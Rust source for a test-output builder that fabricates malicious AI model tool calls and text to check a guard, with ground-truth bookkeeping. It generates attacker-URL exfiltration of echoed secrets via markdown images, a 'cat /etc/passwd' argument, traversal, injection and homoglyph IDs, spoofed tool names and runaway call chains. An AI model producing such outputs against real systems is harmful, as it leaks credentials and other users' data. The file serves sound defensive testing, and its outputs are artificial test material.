//! The builder: one pass from a recipe and a context to turns, noting every identifier as it
//! is written, so the ground truth and the script cannot disagree.

use serde_json::{Map, Value, json};

use super::catalogue::{
    FINAL_TEXT, ID_PARAM_HINTS, ID_SENTENCES, INJECTIONS, INVENTED_TOOL_NAMES, OWN_EXTENSIONS,
    TEXT_PARAM_HINTS, TRAVERSALS, URL_PARAM_HINTS, URLS, WILDCARDS,
};
use super::context::{DeclaredTool, OutputContext, ParamKind, shown_credentials};
use super::recipe::{Channel, OutputFamily, OutputRecipe};
use super::script::{
    Echo, EchoEncoding, EchoSource, FabricatedOutput, Invented, ModelTurn, ToolCall, is_whole_url,
    urls_in,
};
use super::{ECHO_SPAN_CHARS, MIN_ECHO_CHARS, RUNAWAY_CAP_LIMIT, RUNAWAY_EXTRA_MAX};
use crate::generators::obfuscate;

/// What the payload of a declared-tool call is (one per parameter in the declared-tools family).
#[derive(Clone, Copy)]
enum IdKind {
    ExtendsOwn,
    OtherTenant,
    Traversal,
    Encoded,
    Wildcard,
    Injection,
}

const ID_KINDS: [IdKind; 5] = [
    IdKind::OtherTenant,
    IdKind::Traversal,
    IdKind::Encoded,
    IdKind::Wildcard,
    IdKind::Injection,
];

/// Builds the script and its ground truth for [`OutputRecipe::build`].
pub(super) fn build(recipe: &OutputRecipe, ctx: &OutputContext) -> FabricatedOutput {
    let mut builder = Builder {
        ctx,
        recipe,
        invented: Invented::default(),
        turns: Vec::new(),
        next_call: 0,
    };
    let channel = builder.run();
    FabricatedOutput {
        family: recipe.family,
        channel,
        turns: builder.turns,
        invented: builder.invented,
    }
}

struct Builder<'a> {
    ctx: &'a OutputContext,
    recipe: &'a OutputRecipe,
    invented: Invented,
    turns: Vec<ModelTurn>,
    next_call: u32,
}

impl<'a> Builder<'a> {
    /// Emits the turns; returns the channel actually used.
    fn run(&mut self) -> Channel {
        let recipe = self.recipe;
        let channel = match (recipe.channel, self.ctx.tools.is_empty()) {
            (Channel::ToolCall, true) => Channel::Text,
            (channel, _) => channel,
        };
        match recipe.family {
            OutputFamily::DeclaredTools => self.declared_tools(channel),
            OutputFamily::OtherTenantIds => self.id_payload_output(IdKind::OtherTenant, channel),
            OutputFamily::PathTraversal => self.id_payload_output(IdKind::Traversal, channel),
            OutputFamily::EncodedIds => self.id_payload_output(IdKind::Encoded, channel),
            OutputFamily::OwnIdExtensions => self.id_payload_output(IdKind::ExtendsOwn, channel),
            OutputFamily::ShownSecrets => self.shown_secret(channel),
            OutputFamily::Wildcards => self.id_payload_output(IdKind::Wildcard, channel),
            OutputFamily::Injection => self.id_payload_output(IdKind::Injection, channel),
            OutputFamily::InventedTools => {
                self.invented_tools();
                Channel::ToolCall
            }
            OutputFamily::InventedUrls => self.invented_urls(channel),
            OutputFamily::Echo => self.echo(channel),
            OutputFamily::RunawayChain => {
                self.runaway();
                Channel::ToolCall
            }
        }
    }

    // --- values from the context and the seed ---

    fn pick<'v>(&self, values: &'v [String], salt: usize) -> Option<&'v String> {
        let count = values.len();
        (count > 0).then(|| &values[(usize::from(self.recipe.pick) + salt) % count])
    }

    /// A fresh id shaped like the context's ids (`doc-` + `cnf` + hex): unique to the seed.
    fn fresh_id(&self, salt: u64) -> String {
        format!(
            "{}cnf{:08x}",
            self.id_prefix(),
            obfuscate::mix(self.recipe.seed, salt) as u32
        )
    }

    /// The part of a context id up to its last separator (`doc-b1` → `doc-`), limited to
    /// characters that cannot break the text grammar; `res-` when the context has no id.
    fn id_prefix(&self) -> String {
        let sample = self.ctx.other_ids.first().or(self.ctx.own_ids.first());
        let Some(sample) = sample else {
            return "res-".to_owned();
        };
        let cut = sample.rfind(['-', '_', '/', ':']).map_or(0, |at| at + 1);
        let prefix: String = sample[..cut]
            .chars()
            .filter(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '/' | ':'))
            .collect();
        if prefix.is_empty() {
            "res-".to_owned()
        } else {
            prefix
        }
    }

    fn other_id(&self, salt: usize) -> String {
        self.pick(&self.ctx.other_ids, salt)
            .cloned()
            .unwrap_or_else(|| self.fresh_id(1))
    }

    fn own_id(&self) -> String {
        self.pick(&self.ctx.own_ids, 0)
            .cloned()
            .unwrap_or_else(|| self.fresh_id(2))
    }

    fn port(&self) -> u16 {
        let ports = &self.ctx.loopback_ports;
        if ports.is_empty() {
            80
        } else {
            ports[usize::from(self.recipe.pick) % ports.len()]
        }
    }

    fn hex_tag(&self) -> String {
        format!("{:08x}", obfuscate::mix(self.recipe.seed, 3) as u32)
    }

    fn attacker(&self) -> &str {
        self.ctx.attacker_base_url.trim_end_matches('/')
    }

    /// Fills the catalogue placeholders of `template`.
    fn expand(&self, template: &str, salt: usize) -> String {
        let mut out = String::with_capacity(template.len() + 32);
        let mut rest = template;
        while let Some(at) = rest.find('{') {
            out.push_str(&rest[..at]);
            let tail = &rest[at..];
            let key_end = tail.find('}').map(|end| end + 1);
            let filled = match key_end.map(|end| &tail[..end]) {
                Some("{other}") => Some(self.other_id(salt)),
                Some("{own}") => Some(self.own_id()),
                Some("{prefix}") => Some(self.id_prefix()),
                Some("{attacker}") => Some(self.attacker().to_owned()),
                Some("{port}") => Some(self.port().to_string()),
                Some("{hex}") => Some(self.hex_tag()),
                _ => None,
            };
            match (filled, key_end) {
                (Some(value), Some(end)) => {
                    out.push_str(&value);
                    rest = &tail[end..];
                }
                _ => {
                    out.push('{');
                    rest = &tail[1..];
                }
            }
        }
        out.push_str(rest);
        out
    }

    /// An id of the given kind; `salt` varies it between the calls of one output.
    fn id_payload(&self, kind: IdKind, salt: usize) -> String {
        let variant = usize::from(self.recipe.variant) + salt;
        match kind {
            IdKind::OtherTenant => self.other_id(salt),
            IdKind::ExtendsOwn => self.expand(OWN_EXTENSIONS[variant % OWN_EXTENSIONS.len()], salt),
            IdKind::Traversal => self.expand(TRAVERSALS[variant % TRAVERSALS.len()], salt),
            IdKind::Wildcard => self.expand(WILDCARDS[variant % WILDCARDS.len()], salt),
            IdKind::Injection => self.expand(INJECTIONS[variant % INJECTIONS.len()], salt),
            IdKind::Encoded => encoded_variant(&self.other_id(salt), variant),
        }
    }

    fn url_payload(&self, salt: usize) -> String {
        let variant = usize::from(self.recipe.variant) + salt;
        self.expand(URLS[variant % URLS.len()], salt)
    }

    // --- recording ---

    fn note_tool(&mut self, name: &str) {
        if !self.ctx.declares_tool(name) {
            push_unique(&mut self.invented.tools, name);
        }
    }

    /// Records a string leaf or code span: a URL as a whole, or an id and its embedded URLs.
    /// An echo is not an identifier: its provenance is recorded in [`Invented::echoes`].
    fn note_value(&mut self, value: &str) {
        if self
            .invented
            .echoes
            .iter()
            .any(|echo| echo.emitted == value)
        {
            return;
        }
        if is_whole_url(value) {
            self.note_url(value);
            return;
        }
        if !self.ctx.knows_value(value) {
            push_unique(&mut self.invented.ids, value);
        }
        for url in urls_in(value) {
            self.note_url(url);
        }
    }

    fn note_url(&mut self, url: &str) {
        if !self.ctx.knows_value(url) {
            push_unique(&mut self.invented.urls, url);
        }
    }

    fn next_call_id(&mut self) -> String {
        self.next_call += 1;
        format!(
            "call_{:012x}{:04x}",
            obfuscate::mix(self.recipe.seed, 4) >> 16,
            self.next_call
        )
    }

    /// A tool call; records its name and every identifier in its arguments.
    fn call(&mut self, name: &str, arguments: Value) -> ToolCall {
        self.note_tool(name);
        self.note_leaves(&arguments);
        ToolCall {
            id: self.next_call_id(),
            name: name.to_owned(),
            arguments,
        }
    }

    /// A turn of text whose only identifier is `id`, in a code span.
    fn id_sentence(&mut self, id: &str) -> ModelTurn {
        self.note_value(id);
        let (before, after) = ID_SENTENCES[usize::from(self.recipe.variant) % ID_SENTENCES.len()];
        ModelTurn::Text {
            content: format!("{before}`{id}`{after}"),
        }
    }

    /// A turn of text carrying `object` in a fenced JSON block; records its leaves.
    fn json_block(&mut self, object: Value) -> ModelTurn {
        self.note_leaves(&object);
        ModelTurn::Text {
            content: format!("Here is the action to perform:\n\n```json\n{object}\n```\n"),
        }
    }

    fn note_leaves(&mut self, value: &Value) {
        match value {
            Value::String(text) => self.note_value(text),
            Value::Number(number) => self.note_value(&number.to_string()),
            Value::Array(items) => items.iter().for_each(|item| self.note_leaves(item)),
            Value::Object(members) => members.values().for_each(|member| self.note_leaves(member)),
            Value::Bool(_) | Value::Null => {}
        }
    }

    fn tool_turns(&mut self, calls: Vec<ToolCall>) {
        self.turns.push(ModelTurn::ToolCalls { tool_calls: calls });
        self.turns.push(ModelTurn::Text {
            content: FINAL_TEXT.to_owned(),
        });
    }

    // --- arguments ---

    /// Arguments for `tool`: `payload` in its main parameter (added as `id` if it has none),
    /// `overrides` in theirs, the caller's own id (or `true`, `1`) elsewhere.
    fn arguments_with(
        &self,
        tool: &DeclaredTool,
        main: Option<usize>,
        payload: Value,
        overrides: &[(usize, Value)],
    ) -> Value {
        let mut arguments = Map::new();
        if main.is_none() {
            arguments.insert("id".to_owned(), payload.clone());
        }
        for (index, param) in tool.params.iter().enumerate() {
            let value = if let Some((_, value)) = overrides.iter().find(|(at, _)| *at == index) {
                value.clone()
            } else if Some(index) == main {
                payload.clone()
            } else {
                self.filler(param.kind)
            };
            arguments.insert(param.name.clone(), value);
        }
        Value::Object(arguments)
    }

    /// A plausible value for a parameter the case does not target.
    fn filler(&self, kind: ParamKind) -> Value {
        match kind {
            ParamKind::Boolean => Value::Bool(true),
            ParamKind::Integer | ParamKind::Number => Value::from(1),
            ParamKind::Array => json!([self.own_id()]),
            ParamKind::Object => json!({ "id": self.own_id() }),
            ParamKind::String => Value::String(self.own_id()),
        }
    }

    /// The first declared tool, counting from the picked one, with a parameter named like
    /// one of `hints`.
    fn tool_with_param(&self, hints: &[&str]) -> Option<&'a DeclaredTool> {
        let tools = &self.ctx.tools;
        let start = usize::from(self.recipe.pick);
        (0..tools.len())
            .map(|offset| &tools[(start + offset) % tools.len()])
            .find(|tool| param_matching(tool, hints).is_some())
    }

    fn chosen_tool(&self) -> Option<&'a DeclaredTool> {
        let tools = &self.ctx.tools;
        (!tools.is_empty()).then(|| &tools[usize::from(self.recipe.pick) % tools.len()])
    }

    // --- families ---

    fn id_payload_output(&mut self, kind: IdKind, channel: Channel) -> Channel {
        let payload = self.id_payload(kind, 0);
        match (channel, self.chosen_tool()) {
            (Channel::ToolCall, Some(tool)) => {
                let main = id_param(tool);
                let arguments = self.arguments_with(tool, main, Value::String(payload), &[]);
                let call = self.call(&tool.name, arguments);
                self.tool_turns(vec![call]);
                Channel::ToolCall
            }
            (Channel::JsonInText, _) => {
                let turn = self.json_block(json!({ "document_id": payload }));
                self.turns.push(turn);
                Channel::JsonInText
            }
            _ => {
                let turn = self.id_sentence(&payload);
                self.turns.push(turn);
                Channel::Text
            }
        }
    }

    /// Every declared tool, each main parameter with another kind of id, URL parameters with
    /// invented URLs. Variant parity: all in one turn (parallel calls) or one per turn.
    fn declared_tools(&mut self, channel: Channel) -> Channel {
        let tools = &self.ctx.tools;
        if tools.is_empty() {
            return self.id_payload_output(IdKind::OtherTenant, channel);
        }
        let mut calls = Vec::with_capacity(tools.len());
        for (index, tool) in tools.iter().enumerate() {
            // A tool without an id parameter but with a URL one gets the URL as its payload.
            let main = id_param(tool).or_else(|| param_matching(tool, URL_PARAM_HINTS));
            let kind = ID_KINDS[(usize::from(self.recipe.variant) + index) % ID_KINDS.len()];
            let payload = Value::String(self.id_payload(kind, index));
            let overrides: Vec<(usize, Value)> = param_matching(tool, URL_PARAM_HINTS)
                .map(|at| (at, Value::String(self.url_payload(index))))
                .into_iter()
                .collect();
            let arguments = self.arguments_with(tool, main, payload, &overrides);
            calls.push(self.call(&tool.name, arguments));
        }
        if self.recipe.variant.is_multiple_of(2) {
            self.tool_turns(calls);
        } else {
            self.turns
                .extend(calls.into_iter().map(|call| ModelTurn::ToolCalls {
                    tool_calls: vec![call],
                }));
            self.turns.push(ModelTurn::Text {
                content: FINAL_TEXT.to_owned(),
            });
        }
        Channel::ToolCall
    }

    /// Even variants: an invented tool name with invented arguments. Odd variants (with a
    /// declared tool): a declared tool with extra, invented arguments.
    fn invented_tools(&mut self) {
        let variant = usize::from(self.recipe.variant);
        let other = self.other_id(0);
        let url = self.url_payload(0);
        let (name, arguments) = match self.chosen_tool() {
            Some(tool) if variant % 2 == 1 => {
                let main = id_param(tool);
                let mut arguments =
                    self.arguments_with(tool, main, Value::String(self.own_id()), &[]);
                if let Value::Object(members) = &mut arguments {
                    members.insert("as_user".to_owned(), Value::String(other));
                    members.insert("admin".to_owned(), Value::Bool(true));
                    members.insert("scope".to_owned(), Value::String("*".to_owned()));
                    members.insert("callback_url".to_owned(), Value::String(url));
                }
                (tool.name.clone(), arguments)
            }
            _ => (
                self.invented_tool_name(variant / 2),
                json!({
                    "id": other,
                    "url": url,
                    "command": "cat /etc/passwd",
                    "confirm": true,
                }),
            ),
        };
        let call = self.call(&name, arguments);
        self.tool_turns(vec![call]);
    }

    /// A name from the list, or a near miss of a declared name (suffix, case, invisible
    /// character, fullwidth, namespace).
    fn invented_tool_name(&self, index: usize) -> String {
        let near_misses = if self.ctx.tools.is_empty() { 0 } else { 5 };
        let slot = index % (INVENTED_TOOL_NAMES.len() + near_misses);
        let Some(base) = self.chosen_tool().map(|tool| tool.name.as_str()) else {
            return INVENTED_TOOL_NAMES[slot % INVENTED_TOOL_NAMES.len()].to_owned();
        };
        match slot.checked_sub(INVENTED_TOOL_NAMES.len()) {
            None => INVENTED_TOOL_NAMES[slot].to_owned(),
            Some(0) => format!("{base}_admin"),
            Some(1) => base.to_uppercase(),
            Some(2) => format!("{base}\u{200B}"),
            Some(3) => obfuscate::fullwidth(base),
            Some(_) => format!("functions.{base}"),
        }
    }

    fn invented_urls(&mut self, channel: Channel) -> Channel {
        let url = self.url_payload(0);
        match channel {
            Channel::ToolCall => {
                let with_url_param =
                    self.ctx.tools.iter().find_map(|tool| {
                        param_matching(tool, URL_PARAM_HINTS).map(|at| (tool, at))
                    });
                let call = match with_url_param {
                    Some((tool, at)) => {
                        let arguments =
                            self.arguments_with(tool, Some(at), Value::String(url), &[]);
                        self.call(&tool.name, arguments)
                    }
                    None => self.call("fetch_url", json!({ "url": url })),
                };
                self.tool_turns(vec![call]);
                Channel::ToolCall
            }
            Channel::JsonInText => {
                let turn = self.json_block(json!({ "url": url }));
                self.turns.push(turn);
                Channel::JsonInText
            }
            Channel::Text => {
                self.note_value(&url);
                let content = url_sentence(&url, self.recipe.variant);
                self.turns.push(ModelTurn::Text { content });
                Channel::Text
            }
        }
    }

    /// Variant modulo 3: 0 puts the echo as is (in a text paragraph, a text parameter or a
    /// JSON block), 1 and 2 put it in the query of an attacker URL (markdown image, link).
    fn echo(&mut self, channel: Channel) -> Channel {
        let Some((source, value)) = self.echo_candidate() else {
            self.turns.push(ModelTurn::Text {
                content: "I have nothing to repeat.".to_owned(),
            });
            return Channel::Text;
        };
        let in_url = !self.recipe.variant.is_multiple_of(3);
        let hints = if in_url {
            URL_PARAM_HINTS
        } else {
            TEXT_PARAM_HINTS
        };
        match (channel, self.tool_with_param(hints).or(self.chosen_tool())) {
            (Channel::ToolCall, Some(tool)) => {
                let (main, payload) = match param_matching(tool, URL_PARAM_HINTS) {
                    Some(at) if in_url => (Some(at), self.exfil_url(source, value)),
                    _ => {
                        let main = param_matching(tool, TEXT_PARAM_HINTS)
                            .or_else(|| first_string_param(tool));
                        (main, self.record_echo(source, value, self.recipe.encoding))
                    }
                };
                let arguments = self.arguments_with(tool, main, Value::String(payload), &[]);
                let call = self.call(&tool.name, arguments);
                self.tool_turns(vec![call]);
                Channel::ToolCall
            }
            (Channel::JsonInText, _) => {
                let emitted = self.record_echo(source, value, self.recipe.encoding);
                let turn = self.json_block(json!({ "data": emitted }));
                self.turns.push(turn);
                Channel::JsonInText
            }
            _ if in_url => {
                let url = self.exfil_url(source, value);
                self.note_value(&url);
                let content = url_sentence(&url, self.recipe.variant);
                self.turns.push(ModelTurn::Text { content });
                Channel::Text
            }
            _ => {
                let emitted = self.record_echo(source, value, self.recipe.encoding);
                self.turns.push(ModelTurn::Text {
                    content: format!("Here is what you asked for:\n\n{emitted}\n\nAnything else?"),
                });
                Channel::Text
            }
        }
    }

    /// A credential the model was shown, alone (no sentence around it that a span filter
    /// could catch), raw, base64 or hex; the echo family when it was shown none.
    fn shown_secret(&mut self, channel: Channel) -> Channel {
        let sent = &self.ctx.sent;
        let planted: Vec<&str> = self
            .ctx
            .watched_secrets
            .iter()
            .map(String::as_str)
            .collect();
        let shown = shown_credentials(&sent.system_prompt, &sent.tool_results, &planted);
        let Some(value) = shown
            .get(usize::from(self.recipe.pick) % shown.len().max(1))
            .cloned()
        else {
            return self.echo(channel);
        };
        let encoding = [EchoEncoding::Raw, EchoEncoding::Base64, EchoEncoding::Hex]
            [usize::from(self.recipe.variant) % 3];
        let content = self.record_echo(EchoSource::Secret, value, encoding);
        self.turns.push(ModelTurn::Text { content });
        Channel::Text
    }

    /// The attacker URL with the echo in its query, URL-safely encoded.
    fn exfil_url(&mut self, source: EchoSource, value: String) -> String {
        let encoding = self.recipe.encoding.url_safe();
        let emitted = self.record_echo(source, value, encoding);
        format!("{}/c?d={emitted}", self.attacker())
    }

    fn record_echo(&mut self, source: EchoSource, value: String, encoding: EchoEncoding) -> String {
        let emitted = encoding.encode(&value);
        let echo = Echo {
            source,
            value,
            encoding,
            emitted: emitted.clone(),
        };
        if !self.invented.echoes.contains(&echo) {
            self.invented.echoes.push(echo);
        }
        emitted
    }

    /// What to echo: watched secrets found in sent texts (the damaging case), then spans of
    /// the system prompt, user prompt and tool results; `pick` chooses.
    fn echo_candidate(&self) -> Option<(EchoSource, String)> {
        let sent = &self.ctx.sent;
        let secrets = self
            .ctx
            .watched_secrets
            .iter()
            .filter(|secret| secret.chars().count() >= MIN_ECHO_CHARS && sent.contain(secret))
            // A JWT's signature segment alone is a leak too (docs/ARCHITECTURE.md §4, ECHO).
            .flat_map(|secret| [Some(secret.as_str()), jwt_signature(secret)])
            .flatten()
            .map(|secret| (EchoSource::Secret, secret));
        let texts = [
            (EchoSource::SystemPrompt, sent.system_prompt.as_str()),
            (EchoSource::UserPrompt, sent.user_prompt.as_str()),
        ]
        .into_iter()
        .chain(
            sent.tool_results
                .iter()
                .map(|text| (EchoSource::ToolResult, text.as_str())),
        )
        .filter(|(_, text)| text.chars().count() >= MIN_ECHO_CHARS);
        let count = secrets.clone().count() + texts.clone().count();
        let index = usize::from(self.recipe.pick) % count.max(1);
        let (source, text) = secrets.chain(texts).nth(index)?;
        let value = match source {
            EchoSource::Secret => text.to_owned(),
            _ => span_of(
                text,
                self.recipe.seed,
                self.recipe.variant.is_multiple_of(2),
            ),
        };
        Some((source, value))
    }

    /// `call_cap + 1 + extra` calls. Variant modulo 3: 0 one call per turn to one tool,
    /// 1 all calls in one turn (parallel), 2 one call per turn rotating over declared tools.
    fn runaway(&mut self) {
        let cap = self.ctx.call_cap.min(RUNAWAY_CAP_LIMIT);
        let count = cap + 1 + u32::from(self.recipe.extra_calls) % RUNAWAY_EXTRA_MAX;
        let rotate = self.recipe.variant % 3 == 2;
        let tools = &self.ctx.tools;
        let mut chain = Vec::with_capacity(count as usize);
        for index in 0..count as usize {
            let tool = match tools.len() {
                0 => None,
                len if rotate => Some(&tools[index % len]),
                len => Some(&tools[usize::from(self.recipe.pick) % len]),
            };
            let own = Value::String(self.own_id());
            let call = match tool {
                Some(tool) => {
                    let arguments = self.arguments_with(tool, id_param(tool), own, &[]);
                    self.call(&tool.name, arguments)
                }
                None => self.call("search", json!({ "query": own })),
            };
            chain.push(call);
        }
        if self.recipe.variant % 3 == 1 {
            self.turns.push(ModelTurn::ToolCalls { tool_calls: chain });
        } else {
            // No closing text: the target keeps calling until its cap (or confab) stops it.
            self.turns
                .extend(chain.into_iter().map(|call| ModelTurn::ToolCalls {
                    tool_calls: vec![call],
                }));
        }
    }
}

// ---------------------------------------------------------------------------------------------
// Helpers

fn push_unique(list: &mut Vec<String>, value: &str) {
    if !list.iter().any(|known| known == value) {
        list.push(value.to_owned());
    }
}

/// The first parameter whose lower-cased name contains a hint (hints in preference order).
fn param_matching(tool: &DeclaredTool, hints: &[&str]) -> Option<usize> {
    hints.iter().find_map(|hint| {
        tool.params
            .iter()
            .position(|param| param.name.to_ascii_lowercase().contains(hint))
    })
}

/// The third segment of a three-segment, dot-separated secret (a JWS compact token), if it
/// is long enough to echo on its own.
fn jwt_signature(secret: &str) -> Option<&str> {
    let mut segments = secret.split('.');
    let (_, _, signature) = (segments.next()?, segments.next()?, segments.next()?);
    (segments.next().is_none() && signature.chars().count() >= MIN_ECHO_CHARS).then_some(signature)
}

/// Where a resource id goes: a parameter named like one, else the first string parameter.
fn id_param(tool: &DeclaredTool) -> Option<usize> {
    param_matching(tool, ID_PARAM_HINTS).or_else(|| first_string_param(tool))
}

fn first_string_param(tool: &DeclaredTool) -> Option<usize> {
    tool.params
        .iter()
        .position(|param| param.kind == ParamKind::String)
}

/// A text turn showing `url`: markdown image, markdown link or bare URL.
fn url_sentence(url: &str, variant: u8) -> String {
    match variant % 3 {
        0 => format!("Here is the chart: ![chart]({url})"),
        1 => format!("You can [open the report]({url}) here."),
        _ => format!("The file is at {url} and ready."),
    }
}

/// A variant of `id` that a decoder or a lenient comparison maps back to it.
fn encoded_variant(id: &str, variant: usize) -> String {
    match variant % 10 {
        0 => obfuscate::percent_encode_all(id),
        1 => obfuscate::percent_encode_all(id).replace('%', "%25"),
        2 => obfuscate::homoglyphs(id, ""),
        3 => obfuscate::fullwidth(id),
        4 => obfuscate::insert_zero_width(id, 0),
        5 => id.to_uppercase(),
        6 => format!("{id}%00"),
        7 => format!("{id}\u{0}"),
        8 => format!(" {id} "),
        _ => obfuscate::percent_encode(id).replace('-', "%2D"),
    }
}

/// The whole `text` (when `whole` or short), else [`ECHO_SPAN_CHARS`] characters of it at a
/// seed-chosen offset.
fn span_of(text: &str, seed: u64, whole: bool) -> String {
    let chars = text.chars().count();
    if whole || chars <= ECHO_SPAN_CHARS {
        return text.to_owned();
    }
    let start = (seed % (chars - ECHO_SPAN_CHARS + 1) as u64) as usize;
    text.chars().skip(start).take(ECHO_SPAN_CHARS).collect()
}
